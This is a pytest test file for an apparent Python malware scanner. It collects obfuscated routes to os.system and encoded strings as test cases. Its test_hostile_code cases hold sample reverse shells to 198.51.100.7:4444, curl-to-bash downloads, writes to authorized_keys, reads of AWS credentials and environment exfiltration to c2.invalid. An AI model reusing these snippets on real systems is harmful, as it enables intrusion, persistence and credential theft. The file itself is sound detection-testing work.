from __future__ import annotations

import pytest
from code_facts import calls, facts_of, findings, imports
from hypothesis import given, settings
from hypothesis import strategies as st

from toadstone.core.fact import Anomaly, Call, Code, Import, Moment, Unread
from toadstone.core.finding import Severity
from toadstone.core.value import Symbol

ROUTES = {
    "alias": "import os as o\no.system('echo 1')",
    "from": "from os import system as s\ns('echo 1')",
    "star": "from os import *\nsystem('echo 1')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('echo 1')",
    "getattribute": "import os\nos.__getattribute__('system')('echo 1')",
    "dunder import": "__import__('o' + 's').system('echo 1')",
    "import_module": "import importlib\nimportlib.import_module('os').system('echo 1')",
    "sys.modules": "import sys\nsys.modules['os'].system('echo 1')",
    "vars": "import os\nvars(os)['system']('echo 1')",
    "dict": "import os\nos.__dict__['system']('echo 1')",
    "globals": "import os\nglobals()['os'].system('echo 1')",
    "builtins": "globals()['__builtins__'].__import__('os').system('echo 1')",
    "loop of names": "import os\nfor name in ['sys' + 'tem']:\n    getattr(os, name)('echo 1')",
    "partial": "import functools, os\nfunctools.partial(os.system, 'echo 1')()",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'echo 1')(os)",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('echo 1')",
    "map": "import os\nlist(map(os.system, ['echo 1']))",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('echo 1',)).start()",
    "thread class": "import os, threading\nclass T(threading.Thread):\n    def run(self): os.system('echo 1')\nT().start()",
    "atexit": "import atexit, os\natexit.register(os.system, 'echo 1')",
    "lambda": "import os\n(lambda c: os.system(c))('echo 1')",
    "table": "import os\n{'a': os.system}['a']('echo 1')",
    "walrus": "import os\n(f := os.system)('echo 1')",
    "conditional": "import os, sys\nf = os.system if sys.platform else print\nf('echo 1')",
    "rebound": "import os\nf = os.system\nif f:\n    f = len\nf('echo 1')",
    "function": "import os\ndef run(c):\n    os.system(c)\nrun('echo 1')",
    "nested": "import os\ndef a(c):\n    def b(d): os.system(d)\n    b(c)\na('echo 1')",
    "returned": "import os\ndef pick(): return os.system\npick()('echo 1')",
    "class body": "import os\nclass A:\n    os.system('echo 1')",
    "init": "import os\nclass A:\n    def __init__(self, c): os.system(c)\nA('echo 1')",
    "method": "import os\nclass A:\n    def go(self): os.system('echo 1')\nA().go()",
    "attribute": "import os\nclass A:\n    def __init__(self): self.f = os.system\n    def go(self): self.f('echo 1')\nA().go()",
    "default": "import os\ndef f(x=os.system('echo 1')): pass",
    "annotation": "import os\ndef f(x: os.system('echo 1')): pass",
    "exec text": "exec(\"import os\\nos.system('echo 1')\")",
    "exec compiled": "exec(compile(\"import os; os.system('echo 1')\", 'x', 'exec'))",
    "eval text": "eval(\"__import__('os')\").system('echo 1')",
    "escape": "().__class__.__bases__[0].__subclasses__()[137].__init__.__globals__['system']('echo 1')",
    "resolve_name": "import pkgutil\npkgutil.resolve_name('os:system')('echo 1')",
    "try": "import os\ntry:\n    pass\nfinally:\n    os.system('echo 1')",
    "match": "import os\nmatch 1:\n    case _:\n        os.system('echo 1')",
    "comprehension": "import os\n[os.system(c) for c in ['echo 1']]",
}


@pytest.mark.parametrize("route", ROUTES)
def test_routes_to_a_call(route):
    facts = facts_of(ROUTES[route])
    found = [fact for fact in facts if isinstance(fact, Call) and str(fact.callee) == "os.system" and fact.args == ("echo 1",)]
    assert found, calls(facts)
    assert any(fact.when is Moment.IMPORT for fact in found)


TEXTS = {
    "concatenation": "'ec' + 'ho' + ' 1'",
    "format": "'{} {}'.format('echo', 1)",
    "percent": "'%s %d' % ('echo', 1)",
    "f-string": "f'{\"echo\"} {1}'",
    "join": "''.join(['ec', 'ho', ' ', '1'])",
    "join of codes": "''.join(chr(c) for c in [101, 99, 104, 111, 32, 49])",
    "join of map": "''.join([chr(c ^ 7) for c in b'bdoh\\'6'])",
    "reversed": "'1 ohce'[::-1]",
    "hex": "bytes.fromhex('6563686f2031').decode()",
    "bytes": "bytes([101, 99, 104, 111, 32, 49]).decode()",
    "base64": "__import__('base64').b64decode('ZWNobyAx').decode()",
    "rot13": "__import__('codecs').decode('rpub 1', 'rot13')",
    "replace": "'eXcho 1'.replace('X', '')",
    "slices": "'xxecho 1yy'[2:-2]",
    "items": "['no', 'echo 1'][1]",
}


@pytest.mark.parametrize("form", TEXTS)
def test_text_that_is_put_together(form):
    facts = facts_of(f"import os\nos.system({TEXTS[form]})")
    call = next(fact for fact in facts if isinstance(fact, Call) and str(fact.callee) == "os.system")
    assert getattr(call.args[0], "value", call.args[0]) == "echo 1"


def test_loops_that_decode_are_worked_out():
    facts = facts_of(
        "import os\nk = ''\nfor c in b'dbgn!0':\n    k += chr(c ^ 1)\nos.system(k)\n"
        "l = []\nfor c in 'oof': l.append(c)\nos.popen(''.join(l))"
    )
    values = {str(fact.callee): fact.args[0] for fact in facts if isinstance(fact, Call) and str(fact.callee).startswith("os.")}
    assert getattr(values["os.system"], "value", "") == "ecfo 1"
    assert values["os.popen"] == "oof"


def test_moments():
    facts = facts_of(
        "import os\nos.system('top')\ndef later(): os.system('later')\n"
        "class M:\n    def __setstate__(self, s): os.system('state')\n"
        "if __name__ == '__main__':\n    os.system('main')\n",
    )
    found = {fact.args[0]: (fact.when, fact.how) for fact in facts if isinstance(fact, Call)}
    assert found["top"] == (Moment.IMPORT, "call")
    assert found["later"] == (Moment.USE, "call")
    assert found["state"] == (Moment.USE, "method:__setstate__")
    assert found["main"] == (Moment.USE, "main")


def test_a_shadowed_name_is_not_the_builtin():
    assert "builtins.open('x')" not in calls(facts_of("def open(p): pass\nopen('x')"))
    assert calls(facts_of("def f(eval):\n    eval('x')\n")) == []


def test_sitecustomize_runs_at_start():
    facts = facts_of("import os\nos.system('echo 1')", "sitecustomize.py")
    assert {fact.when for fact in facts if isinstance(fact, (Call, Import))} == {Moment.LOAD}
    assert findings(facts)["startup-hook"] == Severity.HIGH


def test_embedded_pickles_are_read():
    facts = facts_of("import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydlY2hvJwp0Ui4='))")
    assert any(isinstance(fact, Call) and fact.language == "pickle" and str(fact.callee) == "os.system" for fact in facts)


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", Severity.CRITICAL),
        ("import base64, zlib\ndef f(x):\n    exec(zlib.decompress(base64.b64decode(x)))", Severity.HIGH),
        ("import urllib.request as u\nexec(u.urlopen('http://198.51.100.7/x').read())", Severity.CRITICAL),
        ("import requests\ndef f():\n    r = requests.get('http://payload.invalid/x')\n    exec(r.text)", Severity.HIGH),
        ("def d(s): return bytes.fromhex(s).decode()\nimport os\nos.system(d('6563686f2031'))", Severity.CRITICAL),
        ("import os\ndef f():\n    os.system('curl -s http://198.51.100.7/x | bash')", Severity.HIGH),
        ("import socket, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)", Severity.CRITICAL),
        ("import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s)", Severity.CRITICAL),
        ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')", Severity.CRITICAL),
        ("import os\nprint(open(os.path.expanduser('~/.aws/credentials')).read())", Severity.HIGH),
        ("import os, requests\ndef f():\n    requests.post('http://c2.invalid', json=dict(os.environ))", Severity.HIGH),
        ("import subprocess\nsubprocess.run(['install-things', '--all'])", Severity.HIGH),
        ("import socket, os\ndef f():\n    s = socket.socket()\n    os.system(s.recv(999).decode())", Severity.HIGH),
        ("import marshal\nexec(marshal.loads(b'\\xe3' + b'x' * 40))", Severity.CRITICAL),
    ],
)
def test_hostile_code(text, severity):
    assert findings(facts_of(text))["suspicious-code"] == severity


@pytest.mark.parametrize(
    "text",
    [
        "import subprocess\nversion = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()",
        "import subprocess\ndef build(): subprocess.run(['make', 'all'])",
        "exec(open('version.py').read())",
        "import base64\ndef decode(x): return base64.b64decode(x)",
        "import pickle, zlib\ndef load(x): return pickle.loads(zlib.decompress(x))",
        "import os\nif __name__ == '__main__':\n    os.system('rm build.log')",
        "import requests\ndef page(url): return requests.get(url).json()",
        "namespace = {}\nexec('x = 1', namespace)",
        "import subprocess\nsubprocess.check_output(['git', '--git-dir=.git', 'describe', '--abbrev=7'])",
        "import socket, subprocess\ndef f():\n    s = socket.socket()\n    subprocess.run(['serve', str(s.getsockname()[1])])",
        "import marshal, codecs as c, types\ndef load(x): return types.FunctionType(marshal.loads(c.decode(x, 'base64')), {})",
        "import ctypes\nlib = ctypes.CDLL('libc.so.6')",
        "import os\nopen(os.path.expanduser('~/.bashrc')).read()",
        "import torch\nclass M(torch.nn.Module):\n    def forward(self, x): return eval('x + 1')",
    ],
)
def test_ordinary_code(text):
    assert findings(facts_of(text)) == {}


CONFIGURATION = b'{"auto_map": {"AutoModel": "modeling_tiny.Tiny", "AutoTokenizer": ["other--tok.T", null]}}'


def test_remote_code_is_linked():
    files = {"config.json": CONFIGURATION}
    plain = facts_of("import torch\nclass Tiny(torch.nn.Module): pass", "modeling_tiny.py", files=files)
    assert [fact.summary for fact in plain if isinstance(fact, Code)] == ["remote code, named by auto_map in config.json"]
    assert findings(plain) == {"remote-code": Severity.MEDIUM}
    hostile = facts_of(
        "import os\nclass Tiny:\n    def forward(self): os.system('touch /tmp/x')", "modeling_tiny.py", files=files
    )
    assert findings(hostile)["remote-code"] == Severity.HIGH
    assert all(fact.how.startswith("remote-code:") for fact in hostile if isinstance(fact, Call))
    assert findings(facts_of("import torch", "unrelated.py", files=files)) == {}


@pytest.mark.parametrize(
    "files", [{"config.json": b"{"}, {"config.json": b"[" * 100_000}, {"modules.json": b'[{"type": "tiny.Tiny"}]'}]
)
def test_configurations(files):
    found = findings(facts_of("x = 1", "tiny.py", files=files))
    assert found == ({"remote-code": Severity.MEDIUM} if "modules.json" in files else {})


BOMBS = {
    "nested containers": "x = []\n" + "x = [x]\n" * 3000 + "import os\nos.popen(x)\n",
    "appending": "l = []\n" + "l.append(1)\n" * 20_000,
    "long lists": "x = [" + "1," * 100_000 + "]\n" + "y = x + x\nbytes(x)\nx[::-1]\n" * 2000,
    "nested text": "x = 'a'\n" + "x = (x, 'b')\n" * 3000 + "'%s' % x\n",
    "parentheses": "(" * 1_000_000,
    "closed": "(" * 190 + ")" * 190,
    "minus": "-" * 300_000 + "1",
    "attributes": "a" + ".a" * 100_000,
    "calls": "a" + "()" * 30_000,
    "sum": "+".join(["'a'"] * 100_000),
    "table": "x = [" + "1," * 400_000 + "]",
    "statements": "a;" * 200_000,
    "elif": "if a: pass\n" + "elif a: pass\n" * 20_000,
    "doubling": "x = 'ab'\n" + "x = x + x\n" * 500,
    "product": "x = 'a' * 10**9\ny = 9**9**9\n",
    "pictures": "import os\nx = os.popen('a')\n" + "x = f(x, x)\n" * 500,
    "self": "d = {}\n" + "d['a'] = d\n" * 500,
    "fan": "def f(x):\n    f(x); f(x); f(x)\nf('a' * 20)",
    "callable": "class A: pass\nA.__call__ = A()\nA()()",
    "unrolled": "for i in range(4096):\n    for j in range(4096):\n        x = chr(i)\n",
    "text": "'''\\" * 100_000,
    "inflate": f"import zlib\nexec(zlib.decompress({__import__('zlib').compress(bytes(10**7))!r}))\n",
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_bombs_end_soon(bomb):
    import time

    start = time.process_time()
    facts_of(BOMBS[bomb])
    assert time.process_time() - start < 2


def test_deep_expressions_are_searched_and_said():
    facts = facts_of("import os\nx = " + "[" * 80 + "a(" * 60 + "os.system('echo 1')" + ")" * 60 + "]" * 80)
    assert "os.system('echo 1')" in calls(facts)
    assert any(isinstance(fact, Unread) for fact in facts)


@pytest.mark.parametrize(
    "text",
    [
        "import os\nprint 'x'\nos.system('echo 1')",
        "import os\nexec 'x'\nos.system('echo 1')",
        "import os\nlet x = 1\nos.system('echo 1')",
    ],
)
def test_other_syntax_is_read_word_by_word(text):
    facts = facts_of(text)
    assert "os.system('echo 1')" in calls(facts)
    assert any(isinstance(fact, Unread) for fact in facts)


def test_long_sources_are_read_in_pieces():
    filler = "def f(x):\n    '''text ( [ {'''\n    return [x,\n1]\n" * 6000
    text = "import os\n" + filler + "@os.popen\ndef g(): pass\n" + filler + "os.system('echo 1')\n"
    facts = facts_of(text)
    last = next(fact for fact in facts if isinstance(fact, Call) and str(fact.callee) == "os.system")
    assert last.place.row == text.count("\n") - 1
    assert not [fact for fact in facts if isinstance(fact, Unread)]


def test_encodings():
    assert "os.system('echo 1')" in calls(facts_of(b"# coding: latin-1\nimport os\nx = '\xe9'\nos.system('echo 1')"))
    assert "os.system('echo 1')" in calls(facts_of("\ufeffimport os\nos.system('echo 1')"))
    assert "os.system('echo 1')" in calls(
        facts_of(b"# -*- coding: raw_unicode_escape -*-\nimport os\n#\\u000aos.system('echo 1')")
    )
    odd = facts_of(b"# coding: rot13\nvzcbeg bf\n")
    assert any(isinstance(fact, Anomaly) for fact in odd)
    assert any(isinstance(fact, Unread) for fact in odd)


def test_shebang_and_imports():
    facts = facts_of("#!/usr/bin/env python3\nimport os.path as p\nfrom .sibling import x\nimport a.b.c\na.b.c.d()", "tool")
    assert imports(facts) == ["os.path", ".sibling.x", "a.b.c"]
    assert calls(facts) == ["a.b.c.d()"]
    assert next(fact for fact in facts if isinstance(fact, Call)).callee == Symbol("a.b.c", "d")


WORDS = st.sampled_from(
    [
        "import os\n",
        "from os import system",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        '"',
        "'''",
        "\\",
        "#",
        "\n",
        "    ",
        "def f(x):\n",
        "class A:\n",
        "lambda x: x",
        "exec",
        "eval",
        "os.system",
        "getattr",
        "__import__",
        "+",
        "*",
        "%",
        ",",
        ":",
        "=",
        ".",
        "for x in",
        "if x:\n",
        "else",
        "try:\n",
        "0",
        "9",
        "'a'",
        "b'z'",
        "chr(65)",
        "[::-1]",
        ".join",
        "x",
        "self",
        "@",
        ";",
        "yield",
        "await",
        "return",
        "print x",
        "match",
        "*args",
        "**",
        "->",
        ":=",
        "~",
        "not",
        "and",
    ],
)


@settings(max_examples=250)
@given(st.lists(WORDS, max_size=40))
def test_any_words(parts):
    facts_of("".join(parts))


@settings(max_examples=150)
@given(st.binary(max_size=200))
def test_any_bytes(data):
    facts_of(data)
    facts_of(data, "x", "python-run")
